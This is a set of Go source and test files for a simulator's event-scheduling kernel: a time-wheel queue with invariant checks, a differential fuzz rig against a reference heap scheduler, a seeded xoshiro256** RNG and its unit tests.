	drain := func(list []*Event) {
		for i, e := range list {
			if e.pooled {
				*e = Event{}
				k.freeEvents = append(k.freeEvents, e)
			} else {
				e.fn = nil
			}
			list[i] = nil
		}
	}
	drain(k.cur)
	k.cur = k.cur[:0]
	for w, word := range k.occ {
		for word != 0 {
			b := bits.TrailingZeros64(word)
			word &^= 1 << uint(b)
			s := int64(w)<<6 + int64(b)
			drain(k.slots[s])
			k.slots[s] = k.slots[s][:0]
		}
		k.occ[w] = 0
	}
	k.wheelCount = 0
	drain(k.overflow)
	k.overflow = k.overflow[:0]
}

// checkScheduler is the kernel's own per-event-boundary invariant (reported
// as "sim/heap-monotonic", the name it carried when the queue was a plain
// heap): no tier may hold an event behind the clock, and the wheel's
// structural bookkeeping — occupancy bits, one-tick-per-slot, window bounds,
// the wheel population count, the overflow horizon — must be consistent.
// Pure observation; runs only when invariant checks are enabled.
func (k *Kernel) checkScheduler() error {
	if w, ok := k.earliestQueued(); ok && w < k.now {
		return fmt.Errorf("earliest queued event at %v behind clock %v", w, k.now)
	}
	counted := 0
	for w, word := range k.occ {
		for word != 0 {
			b := bits.TrailingZeros64(word)
			word &^= 1 << uint(b)
			s := int64(w)<<6 + int64(b)
			slot := k.slots[s]
			if len(slot) == 0 {
				return fmt.Errorf("slot %d marked occupied but empty", s)
			}
			tk := tickOf(slot[0].when)
			if tk <= k.cursor || tk > k.cursor+wheelSlots {
				return fmt.Errorf("slot %d holds tick %d outside window (%d, %d]",
					s, tk, k.cursor, k.cursor+wheelSlots)
			}
			if tk&wheelMask != s {
				return fmt.Errorf("tick %d filed in slot %d, want %d", tk, s, tk&wheelMask)
			}
			for _, e := range slot {
				if tickOf(e.when) != tk {
					return fmt.Errorf("slot %d mixes ticks %d and %d", s, tk, tickOf(e.when))
				}
			}
			counted += len(slot)
		}
	}
	if counted != k.wheelCount {
		return fmt.Errorf("wheel count %d but slots hold %d events", k.wheelCount, counted)
	}
	if len(k.overflow) > 0 {
		if tk := tickOf(k.overflow[0].when); tk <= k.cursor+wheelSlots {
			return fmt.Errorf("overflow head tick %d inside wheel window ending at %d",
				tk, k.cursor+wheelSlots)
		}
	}
	return nil
}

// earliestQueued reports the earliest queued timestamp across all tiers,
// including cancelled events (which can never be earlier than a live event
// was at schedule time). Pure observation for the invariant checker — unlike
// peekWhen it never mutates the wheel.
func (k *Kernel) earliestQueued() (Time, bool) {
	best := MaxTime
	found := false
	if len(k.cur) > 0 {
		best, found = k.cur[0].when, true
	}
	for w, word := range k.occ {
		for word != 0 {
			b := bits.TrailingZeros64(word)
			word &^= 1 << uint(b)
			for _, e := range k.slots[int64(w)<<6+int64(b)] {
				if e.when < best {
					best, found = e.when, true
				}
			}
		}
	}
	if len(k.overflow) > 0 && k.overflow[0].when < best {
		best, found = k.overflow[0].when, true
	}
	return best, found
}
