package sim

import (
	"container/heap"
	"fmt"
	"sync/atomic"
	"testing"
)

// The differential scheduler rig pins the time wheel (wheel.go) to the
// binary-heap scheduler it replaced: the reference below is the original
// container/heap event queue, kept verbatim in test code, and both schedulers
// are driven through identical op scripts — At/After/Schedule/ScheduleAfter,
// ScheduleBatch bulk inserts, cancel-while-queued, cancel-then-reschedule,
// same-tick ties, run bursts — with events that spawn more events as they
// fire. Identical fire order, fire times, and final clocks are required.
// Each script runs three ways: the reference heap, the serial wheel, and the
// conservative-window wheel (lanes.go) at 2 workers with prepare hooks on
// every pooled event. FuzzSchedulerOps feeds the same driver with arbitrary
// scripts.

// refEvent/refQueue/refSched are the pre-wheel scheduler, verbatim: a
// container/heap min-heap ordered by (when, seq) with lazy cancellation.
type refEvent struct {
	when      Time
	seq       uint64
	fn        func()
	index     int
	cancelled bool
}

func (e *refEvent) Cancel() {
	if e != nil {
		e.cancelled = true
		e.fn = nil
	}
}

type refQueue []*refEvent

func (q refQueue) Len() int { return len(q) }

func (q refQueue) Less(i, j int) bool {
	if q[i].when != q[j].when {
		return q[i].when < q[j].when
	}
	return q[i].seq < q[j].seq
}

func (q refQueue) Swap(i, j int) {
	q[i], q[j] = q[j], q[i]
	q[i].index = i
	q[j].index = j
}

func (q *refQueue) Push(x any) {
	e := x.(*refEvent)
	e.index = len(*q)
	*q = append(*q, e)
}

func (q *refQueue) Pop() any {
	old := *q
	n := len(old)
	e := old[n-1]
	old[n-1] = nil
	e.index = -1
	*q = old[:n-1]
	return e
}

type refSched struct {
	now   Time
	queue refQueue
	seq   uint64
}

func (r *refSched) at(t Time, fn func()) *refEvent {
	if t < r.now {
		panic(fmt.Sprintf("ref: scheduling into the past: now=%v t=%v", r.now, t))
	}
	e := &refEvent{when: t, seq: r.seq, fn: fn, index: -1}
	r.seq++
	heap.Push(&r.queue, e)
	return e
}

func (r *refSched) step() bool {
	for len(r.queue) > 0 {
		e := heap.Pop(&r.queue).(*refEvent)
		if e.cancelled {
			continue
		}
		r.now = e.when
		fn := e.fn
		e.fn = nil
		fn()
		return true
	}
	return false
}

func (r *refSched) run() {
	for r.step() {
	}
}

func (r *refSched) runUntil(deadline Time) {
	for {
		for len(r.queue) > 0 && r.queue[0].cancelled {
			heap.Pop(&r.queue)
		}
		if len(r.queue) == 0 || r.queue[0].when > deadline {
			break
		}
		r.step()
	}
	if r.now < deadline {
		r.now = deadline
	}
}

// canceller is the common surface of *Event and *refEvent handles.
type canceller interface{ Cancel() }

// scheduler abstracts the wheel kernel and the reference heap so one driver
// can run the same script against both.
type scheduler interface {
	Now() Time
	At(t Time, fn func()) canceller
	Schedule(t Time, fn func())
	ScheduleBatch(entries []BatchEntry)
	RunFor(d Time)
	Run()
}

// wheelAdapter drives a Kernel. With prepped non-nil, Schedule routes through
// SchedulePrep with a counting prepare hook, so windowed kernels exercise the
// prepare collection/dispatch machinery on every pooled event.
type wheelAdapter struct {
	k       *Kernel
	prepped *atomic.Int64
}

func (w wheelAdapter) Now() Time                      { return w.k.Now() }
func (w wheelAdapter) At(t Time, fn func()) canceller { return w.k.At(t, fn) }
func (w wheelAdapter) Schedule(t Time, fn func()) {
	if w.prepped != nil {
		c := w.prepped
		w.k.SchedulePrep(t, fn, func() { c.Add(1) })
		return
	}
	w.k.Schedule(t, fn)
}
func (w wheelAdapter) ScheduleBatch(entries []BatchEntry) { w.k.ScheduleBatch(entries) }
func (w wheelAdapter) RunFor(d Time)                      { w.k.RunFor(d) }
func (w wheelAdapter) Run()                               { w.k.Run() }

type refAdapter struct{ r *refSched }

func (a refAdapter) Now() Time                      { return a.r.now }
func (a refAdapter) At(t Time, fn func()) canceller { return a.r.at(t, fn) }
func (a refAdapter) Schedule(t Time, fn func())     { a.r.at(t, fn) }
func (a refAdapter) ScheduleBatch(entries []BatchEntry) {
	// The reference semantics of ScheduleBatch: one sequential insert per
	// entry, in order.
	for _, e := range entries {
		a.r.at(e.When, e.Fn)
	}
}
func (a refAdapter) RunFor(d Time) { a.r.runUntil(a.r.now + d) }
func (a refAdapter) Run()          { a.r.run() }

// op is one decoded script entry.
type op struct {
	kind  byte
	delay Time
	arg   uint16
}

const (
	opAt byte = iota
	opAfter
	opSchedule
	opScheduleAfter
	opCancel
	opReschedule
	opRunFor
	opScheduleBatch
	opKinds
)

// decodeOps turns an arbitrary byte string into a bounded op script. Four
// bytes per op: kind, 16-bit magnitude, scale class. The scale classes are
// chosen to hit every scheduler tier: raw nanoseconds (sub-slot and same-tick
// ties), microseconds (within the wheel window), 64µs steps (spanning the
// window boundary into overflow), and zero (schedule exactly at now).
func decodeOps(data []byte) []op {
	const maxOps = 512
	var script []op
	for i := 0; i+3 < len(data) && len(script) < maxOps; i += 4 {
		mag := uint16(data[i+1]) | uint16(data[i+2])<<8
		var d Time
		switch data[i+3] % 4 {
		case 0:
			d = Time(mag) // ns: sub-resolution
		case 1:
			d = Time(mag) * Microsecond // in-window
		case 2:
			d = Time(mag) * 64 * Microsecond // up to ~4.2s: overflow
		case 3:
			d = 0 // same-tick / at-now
		}
		script = append(script, op{kind: data[i] % opKinds, delay: d, arg: mag})
	}
	return script
}

// fireRec is one fired event in a run's log.
type fireRec struct {
	id   int
	when Time
}

// splitmix64 is the child-spawn rule's hash: a pure function of the event id
// so both schedulers derive identical children without sharing state.
func splitmix64(x uint64) uint64 {
	x += 0x9e3779b97f4a7c15
	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9
	x = (x ^ (x >> 27)) * 0x94d049bb133111eb
	return x ^ (x >> 31)
}

// runScript interprets one op script against a scheduler and returns the
// fire log. A quarter of fired events spawn a child (half via At with a
// retained handle, half via Schedule), so fire-time scheduling — including
// Schedule exactly at now — is exercised on every run.
func runScript(s scheduler, script []op) (log []fireRec, final Time) {
	var handles []canceller
	nextID := 0
	var spawn func(id int) func()
	spawn = func(id int) func() {
		return func() {
			log = append(log, fireRec{id, s.Now()})
			h := splitmix64(uint64(id))
			if h%4 == 0 {
				d := Time(h >> 8 % uint64(2*Millisecond))
				child := spawn(nextID)
				nextID++
				if h%8 == 0 {
					handles = append(handles, s.At(s.Now()+d, child))
				} else {
					s.Schedule(s.Now()+d, child)
				}
			}
		}
	}
	newEvent := func() func() {
		fn := spawn(nextID)
		nextID++
		return fn
	}
	for _, o := range script {
		switch o.kind {
		case opAt, opAfter: // both resolve to an absolute time pre-run
			handles = append(handles, s.At(s.Now()+o.delay, newEvent()))
		case opSchedule, opScheduleAfter:
			s.Schedule(s.Now()+o.delay, newEvent())
		case opCancel:
			if len(handles) > 0 {
				handles[int(o.arg)%len(handles)].Cancel()
			}
		case opReschedule:
			if len(handles) > 0 {
				handles[int(o.arg)%len(handles)].Cancel()
			}
			handles = append(handles, s.At(s.Now()+o.delay, newEvent()))
		case opRunFor:
			s.RunFor(o.delay)
		case opScheduleBatch:
			// A bulk insert of 2–9 entries whose deltas derive from the op
			// argument alone, mixing same-time runs (the slot fast path) with
			// scattered ticks; both schedulers decode identically.
			n := 2 + int(o.arg)%8
			entries := make([]BatchEntry, n)
			h := splitmix64(uint64(o.arg))
			for i := range entries {
				extra := Time(h % uint64(128*Microsecond))
				if h%3 == 0 {
					extra = 0
				}
				entries[i] = BatchEntry{When: s.Now() + o.delay + extra, Fn: newEvent()}
				h = splitmix64(h)
			}
			s.ScheduleBatch(entries)
		}
	}
	s.Run()
	return log, s.Now()
}

// diffSchedulers runs one script against the reference heap, the serial time
// wheel, and the conservative-window wheel (2 workers, with every pooled
// event carrying a prepare hook), and reports the first divergence, if any.
func diffSchedulers(t testing.TB, script []op) {
	t.Helper()
	refLog, refEndT := runScript(refAdapter{&refSched{}}, script)
	check := func(name string, log []fireRec, end Time) {
		t.Helper()
		if len(log) != len(refLog) {
			t.Fatalf("%s fired %d events, reference heap fired %d", name, len(log), len(refLog))
		}
		for i := range log {
			if log[i] != refLog[i] {
				t.Fatalf("fire %d diverged: %s (id=%d at %v), reference (id=%d at %v)",
					i, name, log[i].id, log[i].when, refLog[i].id, refLog[i].when)
			}
		}
		if end != refEndT {
			t.Fatalf("final clocks diverged: %s %v, reference %v", name, end, refEndT)
		}
	}
	wheelLog, wheelEnd := runScript(wheelAdapter{k: NewKernel(1)}, script)
	check("wheel", wheelLog, wheelEnd)
	pk := NewKernel(1)
	pk.SetWorkers(2)
	pk.SetLookahead(64 * Microsecond)
	var prepped atomic.Int64
	parLog, parEnd := runScript(wheelAdapter{k: pk, prepped: &prepped}, script)
	check("windowed wheel", parLog, parEnd)
}

// TestDifferentialSchedulerRandomOps drives seeded randomized op scripts
// through both schedulers. The scripts deliberately mix same-tick ties,
// cancel-while-queued, reschedules, horizon-crossing delays, and run bursts.
func TestDifferentialSchedulerRandomOps(t *testing.T) {
	for _, seed := range []uint64{1, 7, 42, 1 << 40, 0xdeadbeef} {
		t.Run(fmt.Sprintf("seed=%d", seed), func(t *testing.T) {
			rng := NewRNG(seed)
			raw := make([]byte, 4*400)
			rng.Bytes(raw)
			diffSchedulers(t, decodeOps(raw))
		})
	}
}

// TestDifferentialSchedulerDirectedCases pins the hand-written edge scripts
// the fuzz corpus also carries, so a corpus loss never loses the coverage.
func TestDifferentialSchedulerDirectedCases(t *testing.T) {
	for _, c := range directedSchedulerCases() {
		t.Run(c.name, func(t *testing.T) {
			diffSchedulers(t, decodeOps(c.data))
		})
	}
}

// directedSchedulerCases are byte scripts for known-delicate scheduler
// interleavings; shared by the directed test and the fuzz seed corpus.
func directedSchedulerCases() []struct {
	name string
	data []byte
} {
	return []struct {
		name string
		data []byte
	}{
		// Ten events on the same tick: pure seq-order FIFO.
		{"same-tick-ties", []byte{
			opAt, 0, 0, 3, opSchedule, 0, 0, 3, opAt, 0, 0, 3, opSchedule, 0, 0, 3,
			opAt, 0, 0, 3, opSchedule, 0, 0, 3, opAt, 0, 0, 3, opSchedule, 0, 0, 3,
			opAt, 0, 0, 3, opSchedule, 0, 0, 3,
		}},
		// Sub-resolution deltas inside one slot must still fire by (when, seq).
		{"sub-slot-order", []byte{
			opAt, 40, 0, 0, opAt, 10, 0, 0, opSchedule, 30, 0, 0, opAt, 10, 0, 0,
			opSchedule, 0, 0, 0, opAt, 25, 0, 0,
		}},
		// Far-future events beyond the wheel horizon, interleaved with near.
		{"overflow-promotion", []byte{
			opAt, 0xff, 0xff, 2, opSchedule, 1, 0, 1, opAt, 0xff, 0xff, 2,
			opSchedule, 0xff, 0xff, 2, opAt, 5, 0, 1, opRunFor, 0xff, 0xff, 2,
		}},
		// Cancel queued handles, then reschedule at the cancelled times.
		{"cancel-reschedule", []byte{
			opAt, 100, 0, 1, opAt, 200, 0, 1, opCancel, 0, 0, 0,
			opReschedule, 100, 0, 1, opCancel, 1, 0, 0, opRunFor, 0xff, 0xff, 1,
			opAt, 50, 0, 1,
		}},
		// Run bursts that leave the queue non-empty between ops.
		{"run-bursts", []byte{
			opAt, 10, 0, 1, opAt, 0xe8, 3, 1, opRunFor, 0x64, 0, 1,
			opSchedule, 10, 0, 1, opRunFor, 0x64, 0, 1, opAt, 1, 0, 2,
		}},
		// Bulk inserts: same-time runs on the slot fast path, at-now entries
		// into the imminent heap, far entries into overflow, interleaved with
		// singleton schedules and a run burst.
		{"bulk-fanout", []byte{
			opScheduleBatch, 9, 0, 1, opScheduleBatch, 0, 0, 3,
			opSchedule, 5, 0, 1, opScheduleBatch, 0xff, 0xff, 2,
			opRunFor, 0x40, 0, 1, opScheduleBatch, 3, 1, 0,
		}},
	}
}

// FuzzSchedulerOps lets the fuzzer search for any op interleaving where the
// time wheel and the reference heap disagree on fire order, fire times, or
// the final clock.
func FuzzSchedulerOps(f *testing.F) {
	f.Add([]byte{})
	for _, c := range directedSchedulerCases() {
		f.Add(c.data)
	}
	rng := NewRNG(99)
	raw := make([]byte, 4*64)
	rng.Bytes(raw)
	f.Add(raw)
	f.Fuzz(func(t *testing.T, data []byte) {
		diffSchedulers(t, decodeOps(data))
	})
}
