package sim

import "math"

// RNG is a small, fast, deterministic pseudo-random source (xoshiro256**).
// Every stochastic decision in the simulator (frame loss, jitter, IV choice,
// backoff) draws from a kernel's RNG so that a run is a pure function of its
// seed. It is intentionally not cryptographically secure; the crypto in
// internal/wep and internal/vpn has its own explicit randomness.
type RNG struct {
	s [4]uint64
}

// NewRNG returns a generator seeded from seed via splitmix64, which maps any
// seed (including 0) to a full-period initial state.
func NewRNG(seed uint64) *RNG {
	r := &RNG{}
	sm := seed
	next := func() uint64 {
		sm += 0x9e3779b97f4a7c15
		z := sm
		z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
		z = (z ^ (z >> 27)) * 0x94d049bb133111eb
		return z ^ (z >> 31)
	}
	for i := range r.s {
		r.s[i] = next()
	}
	return r
}

func rotl(x uint64, k uint) uint64 { return (x << k) | (x >> (64 - k)) }

// Uint64 returns the next 64 random bits.
func (r *RNG) Uint64() uint64 {
	result := rotl(r.s[1]*5, 7) * 9
	t := r.s[1] << 17
	r.s[2] ^= r.s[0]
	r.s[3] ^= r.s[1]
	r.s[1] ^= r.s[2]
	r.s[0] ^= r.s[3]
	r.s[2] ^= t
	r.s[3] = rotl(r.s[3], 45)
	return result
}

// Uint32 returns the next 32 random bits.
func (r *RNG) Uint32() uint32 { return uint32(r.Uint64() >> 32) }

// Intn returns a uniform integer in [0, n). It panics if n <= 0.
func (r *RNG) Intn(n int) int {
	if n <= 0 {
		panic("sim: Intn with non-positive n")
	}
	return int(r.Uint64() % uint64(n)) // modulo bias negligible for sim n
}

// Int63 returns a non-negative random int64.
func (r *RNG) Int63() int64 { return int64(r.Uint64() >> 1) }

// Float64 returns a uniform value in [0, 1).
func (r *RNG) Float64() float64 {
	return float64(r.Uint64()>>11) / (1 << 53)
}

// Bool returns true with probability p.
func (r *RNG) Bool(p float64) bool {
	if p <= 0 {
		return false
	}
	if p >= 1 {
		return true
	}
	return r.Float64() < p
}

// NormFloat64 returns a standard-normally distributed value (Box–Muller).
func (r *RNG) NormFloat64() float64 {
	for {
		u := 2*r.Float64() - 1
		v := 2*r.Float64() - 1
		s := u*u + v*v
		if s > 0 && s < 1 {
			return u * math.Sqrt(-2*math.Log(s)/s)
		}
	}
}

// ExpFloat64 returns an exponentially distributed value with rate 1.
func (r *RNG) ExpFloat64() float64 {
	for {
		u := r.Float64()
		if u > 0 {
			return -math.Log(u)
		}
	}
}

// Jitter returns a duration uniformly distributed in [0, max).
func (r *RNG) Jitter(max Time) Time {
	if max <= 0 {
		return 0
	}
	return Time(r.Uint64() % uint64(max))
}

// Perm returns a random permutation of [0, n).
func (r *RNG) Perm(n int) []int {
	p := make([]int, n)
	for i := range p {
		j := r.Intn(i + 1)
		p[i] = p[j]
		p[j] = i
	}
	return p
}

// Bytes fills b with random bytes.
func (r *RNG) Bytes(b []byte) {
	i := 0
	for ; i+8 <= len(b); i += 8 {
		v := r.Uint64()
		for j := 0; j < 8; j++ {
			b[i+j] = byte(v >> (8 * j))
		}
	}
	if i < len(b) {
		v := r.Uint64()
		for ; i < len(b); i++ {
			b[i] = byte(v)
			v >>= 8
		}
	}
}

// Fork returns a new RNG whose state is derived from this one. Use it to give
// components independent streams that remain a deterministic function of the
// kernel seed.
func (r *RNG) Fork() *RNG { return NewRNG(r.Uint64()) }
