package sim

import (
	"math"
	"testing"
	"testing/quick"
)

func TestKernelStartsAtZero(t *testing.T) {
	k := NewKernel(1)
	if k.Now() != 0 {
		t.Fatalf("Now() = %v, want 0", k.Now())
	}
	if k.Pending() != 0 {
		t.Fatalf("Pending() = %d, want 0", k.Pending())
	}
}

func TestEventsFireInTimestampOrder(t *testing.T) {
	k := NewKernel(1)
	var order []int
	k.At(30*Millisecond, func() { order = append(order, 3) })
	k.At(10*Millisecond, func() { order = append(order, 1) })
	k.At(20*Millisecond, func() { order = append(order, 2) })
	k.Run()
	want := []int{1, 2, 3}
	for i := range want {
		if order[i] != want[i] {
			t.Fatalf("order = %v, want %v", order, want)
		}
	}
	if k.Now() != 30*Millisecond {
		t.Fatalf("Now() = %v, want 30ms", k.Now())
	}
}

func TestSameTimestampFIFO(t *testing.T) {
	k := NewKernel(1)
	var order []int
	for i := 0; i < 10; i++ {
		i := i
		k.At(Second, func() { order = append(order, i) })
	}
	k.Run()
	for i := range order {
		if order[i] != i {
			t.Fatalf("ties not FIFO: %v", order)
		}
	}
}

func TestAfterSchedulesRelative(t *testing.T) {
	k := NewKernel(1)
	var at Time
	k.At(Second, func() {
		k.After(500*Millisecond, func() { at = k.Now() })
	})
	k.Run()
	if at != Second+500*Millisecond {
		t.Fatalf("fired at %v, want 1.5s", at)
	}
}

func TestSchedulingIntoPastPanics(t *testing.T) {
	k := NewKernel(1)
	k.At(Second, func() {
		defer func() {
			if recover() == nil {
				t.Error("scheduling into the past did not panic")
			}
		}()
		k.At(0, func() {})
	})
	k.Run()
}

func TestNegativeDelayPanics(t *testing.T) {
	k := NewKernel(1)
	defer func() {
		if recover() == nil {
			t.Error("negative After did not panic")
		}
	}()
	k.After(-Second, func() {})
}

func TestNilEventFuncPanics(t *testing.T) {
	k := NewKernel(1)
	defer func() {
		if recover() == nil {
			t.Error("nil fn did not panic")
		}
	}()
	k.At(Second, nil)
}

func TestCancelPreventsFiring(t *testing.T) {
	k := NewKernel(1)
	fired := false
	e := k.At(Second, func() { fired = true })
	e.Cancel()
	if !e.Cancelled() {
		t.Fatal("Cancelled() = false after Cancel")
	}
	k.Run()
	if fired {
		t.Fatal("cancelled event fired")
	}
}

func TestCancelIsIdempotent(t *testing.T) {
	k := NewKernel(1)
	e := k.At(Second, func() {})
	e.Cancel()
	e.Cancel() // must not panic
	var nilEvent *Event
	nilEvent.Cancel() // nil-safe
	k.Run()
}

func TestRunUntilLeavesLaterEventsQueued(t *testing.T) {
	k := NewKernel(1)
	var fired []Time
	for _, d := range []Time{Second, 2 * Second, 3 * Second} {
		d := d
		k.At(d, func() { fired = append(fired, d) })
	}
	n := k.RunUntil(2 * Second)
	if n != 2 {
		t.Fatalf("RunUntil fired %d events, want 2", n)
	}
	if k.Now() != 2*Second {
		t.Fatalf("Now() = %v, want 2s", k.Now())
	}
	if k.Pending() != 1 {
		t.Fatalf("Pending() = %d, want 1", k.Pending())
	}
	k.Run()
	if len(fired) != 3 {
		t.Fatalf("total fired %d, want 3", len(fired))
	}
}

func TestRunUntilAdvancesClockWithNoEvents(t *testing.T) {
	k := NewKernel(1)
	k.RunUntil(5 * Second)
	if k.Now() != 5*Second {
		t.Fatalf("Now() = %v, want 5s", k.Now())
	}
}

func TestRunForIsRelative(t *testing.T) {
	k := NewKernel(1)
	k.RunUntil(Second)
	k.RunFor(2 * Second)
	if k.Now() != 3*Second {
		t.Fatalf("Now() = %v, want 3s", k.Now())
	}
}

func TestStopHaltsRun(t *testing.T) {
	k := NewKernel(1)
	count := 0
	var tick func()
	tick = func() {
		count++
		if count == 5 {
			k.Stop()
			return
		}
		k.After(Millisecond, tick)
	}
	k.After(Millisecond, tick)
	k.Run()
	if count != 5 {
		t.Fatalf("count = %d, want 5", count)
	}
	if !k.Stopped() {
		t.Fatal("Stopped() = false")
	}
}

func TestFiredCounter(t *testing.T) {
	k := NewKernel(1)
	for i := 0; i < 7; i++ {
		k.At(Time(i)*Millisecond, func() {})
	}
	if n := k.Run(); n != 7 {
		t.Fatalf("Run() = %d, want 7", n)
	}
	if k.Fired() != 7 {
		t.Fatalf("Fired() = %d, want 7", k.Fired())
	}
}

func TestTracer(t *testing.T) {
	k := NewKernel(1)
	var got []string
	k.Tracer = FuncTracer(func(tm Time, component, format string, args ...any) {
		got = append(got, component)
	})
	k.At(Second, func() { k.Tracef("test", "hello %d", 42) })
	k.Run()
	if len(got) != 1 || got[0] != "test" {
		t.Fatalf("trace lines = %v", got)
	}
}

func TestTimeArithmetic(t *testing.T) {
	a := 3 * Second
	if a.Add(Second) != 4*Second {
		t.Error("Add")
	}
	if a.Sub(Second) != 2*Second {
		t.Error("Sub")
	}
	if a.Seconds() != 3.0 {
		t.Error("Seconds")
	}
	if a.String() != "3s" {
		t.Errorf("String = %q", a.String())
	}
}

func TestDeterminismAcrossRuns(t *testing.T) {
	run := func() []uint64 {
		k := NewKernel(42)
		var vals []uint64
		for i := 0; i < 100; i++ {
			k.After(Time(k.RNG().Intn(1000))*Microsecond, func() {
				vals = append(vals, k.RNG().Uint64())
			})
		}
		k.Run()
		return vals
	}
	a, b := run(), run()
	if len(a) != len(b) {
		t.Fatal("different lengths")
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("runs diverge at %d", i)
		}
	}
}

func TestRNGSeedsDiffer(t *testing.T) {
	a := NewRNG(1).Uint64()
	b := NewRNG(2).Uint64()
	if a == b {
		t.Fatal("different seeds produced identical first output")
	}
}

func TestRNGZeroSeedWorks(t *testing.T) {
	r := NewRNG(0)
	if r.Uint64() == 0 && r.Uint64() == 0 && r.Uint64() == 0 {
		t.Fatal("zero seed produced degenerate stream")
	}
}

func TestRNGFloat64Range(t *testing.T) {
	r := NewRNG(7)
	for i := 0; i < 10000; i++ {
		f := r.Float64()
		if f < 0 || f >= 1 {
			t.Fatalf("Float64() = %v out of [0,1)", f)
		}
	}
}

func TestRNGIntnRange(t *testing.T) {
	r := NewRNG(7)
	seen := make(map[int]bool)
	for i := 0; i < 1000; i++ {
		v := r.Intn(10)
		if v < 0 || v >= 10 {
			t.Fatalf("Intn(10) = %d", v)
		}
		seen[v] = true
	}
	if len(seen) != 10 {
		t.Fatalf("Intn(10) only produced %d distinct values", len(seen))
	}
}

func TestRNGIntnPanicsOnNonPositive(t *testing.T) {
	defer func() {
		if recover() == nil {
			t.Error("Intn(0) did not panic")
		}
	}()
	NewRNG(1).Intn(0)
}

func TestRNGBoolEdges(t *testing.T) {
	r := NewRNG(1)
	if r.Bool(0) {
		t.Error("Bool(0) = true")
	}
	if !r.Bool(1) {
		t.Error("Bool(1) = false")
	}
}

func TestRNGBoolProbability(t *testing.T) {
	r := NewRNG(1)
	n, hits := 100000, 0
	for i := 0; i < n; i++ {
		if r.Bool(0.3) {
			hits++
		}
	}
	got := float64(hits) / float64(n)
	if math.Abs(got-0.3) > 0.02 {
		t.Fatalf("Bool(0.3) frequency = %v", got)
	}
}

func TestRNGNormalMoments(t *testing.T) {
	r := NewRNG(3)
	n := 50000
	var sum, sumsq float64
	for i := 0; i < n; i++ {
		v := r.NormFloat64()
		sum += v
		sumsq += v * v
	}
	mean := sum / float64(n)
	variance := sumsq/float64(n) - mean*mean
	if math.Abs(mean) > 0.05 {
		t.Errorf("normal mean = %v", mean)
	}
	if math.Abs(variance-1) > 0.05 {
		t.Errorf("normal variance = %v", variance)
	}
}

func TestRNGExpMean(t *testing.T) {
	r := NewRNG(3)
	n := 50000
	var sum float64
	for i := 0; i < n; i++ {
		sum += r.ExpFloat64()
	}
	mean := sum / float64(n)
	if math.Abs(mean-1) > 0.05 {
		t.Errorf("exp mean = %v", mean)
	}
}

func TestRNGPermIsPermutation(t *testing.T) {
	r := NewRNG(5)
	p := r.Perm(50)
	seen := make([]bool, 50)
	for _, v := range p {
		if v < 0 || v >= 50 || seen[v] {
			t.Fatalf("not a permutation: %v", p)
		}
		seen[v] = true
	}
}

func TestRNGJitterBounds(t *testing.T) {
	r := NewRNG(5)
	for i := 0; i < 1000; i++ {
		j := r.Jitter(Millisecond)
		if j < 0 || j >= Millisecond {
			t.Fatalf("Jitter out of range: %v", j)
		}
	}
	if r.Jitter(0) != 0 {
		t.Error("Jitter(0) != 0")
	}
}

func TestRNGBytesFills(t *testing.T) {
	r := NewRNG(5)
	for _, n := range []int{0, 1, 7, 8, 9, 64, 100} {
		b := make([]byte, n)
		r.Bytes(b)
		if n >= 16 {
			allZero := true
			for _, v := range b {
				if v != 0 {
					allZero = false
					break
				}
			}
			if allZero {
				t.Fatalf("Bytes(%d) left buffer zero", n)
			}
		}
	}
}

func TestRNGForkIndependence(t *testing.T) {
	r := NewRNG(9)
	f := r.Fork()
	if r.Uint64() == f.Uint64() {
		t.Fatal("fork tracks parent")
	}
}

// Property: for any batch of (delay, id) pairs, events fire sorted by delay
// with FIFO tie-breaking.
func TestQuickEventOrdering(t *testing.T) {
	f := func(delays []uint16) bool {
		k := NewKernel(1)
		type rec struct {
			when Time
			seq  int
		}
		var fired []rec
		for i, d := range delays {
			d := Time(d) * Microsecond
			i := i
			k.At(d, func() { fired = append(fired, rec{d, i}) })
		}
		k.Run()
		if len(fired) != len(delays) {
			return false
		}
		for i := 1; i < len(fired); i++ {
			if fired[i].when < fired[i-1].when {
				return false
			}
			if fired[i].when == fired[i-1].when && fired[i].seq < fired[i-1].seq {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// Property: RNG stream is a pure function of the seed.
func TestQuickRNGDeterministic(t *testing.T) {
	f := func(seed uint64) bool {
		a, b := NewRNG(seed), NewRNG(seed)
		for i := 0; i < 16; i++ {
			if a.Uint64() != b.Uint64() {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func BenchmarkKernelScheduleFire(b *testing.B) {
	k := NewKernel(1)
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		k.After(Microsecond, func() {})
		k.step()
	}
}

func BenchmarkRNGUint64(b *testing.B) {
	r := NewRNG(1)
	var sink uint64
	for i := 0; i < b.N; i++ {
		sink = r.Uint64()
	}
	_ = sink
}

func TestDeliveryBarrierParksBufferReleases(t *testing.T) {
	// The kernel's delivery barrier is the pool's batch mode: releases
	// between BeginDelivery and EndDelivery are recycled together at the
	// end, so a fan-out that releases a buffer mid-way cannot have its
	// bytes recycled into a later receiver's Get in the same fan-out.
	k := NewKernel(1)
	k.BeginDelivery()
	a := k.BufPool().Get()
	a.Release()
	if b := k.BufPool().Get(); b == a {
		t.Fatal("buffer released inside a delivery barrier was recycled before EndDelivery")
	}
	k.EndDelivery()
	if c := k.BufPool().Get(); c != a {
		t.Fatal("barrier-parked buffer not reissued after EndDelivery")
	}
}
