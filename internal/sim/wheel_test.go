package sim

import (
	"testing"
)

// Tests for the time-wheel scheduler's tiers and the pooled-event edge cases
// the wheel must preserve: same-tick immediate fires, overflow promotion
// order, cancel interactions with the freelist, O(n) drain on Stop, and
// steady-state slot storage.

// TestStopDrainsQueuedEvents pins the O(n) drain: a kernel with thousands of
// queued events — pooled, handle-held, and cancelled — must empty its queue
// on Stop and recycle every pooled event into the freelist for reuse.
func TestStopDrainsQueuedEvents(t *testing.T) {
	k := NewKernel(1)
	const n = 5000
	for i := 0; i < n; i++ {
		// Spread across all tiers: imminent, wheel slots, and overflow.
		d := Time(i) * 37 * Microsecond
		k.Schedule(d, func() { t.Error("drained event fired") })
		e := k.At(d+Microsecond, func() { t.Error("drained event fired") })
		if i%3 == 0 {
			e.Cancel()
		}
	}
